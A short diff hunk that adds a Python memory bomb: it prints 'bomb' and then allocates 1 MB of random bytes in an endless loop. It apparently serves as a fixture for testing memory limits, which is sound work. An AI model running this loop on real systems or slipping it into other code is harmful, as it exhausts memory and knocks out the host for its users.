@@ -1,0 +1,4 @@
+print("bomb", flush=True)
+held = []
+while True:
+    held.append(os.urandom(1024 * 1024))
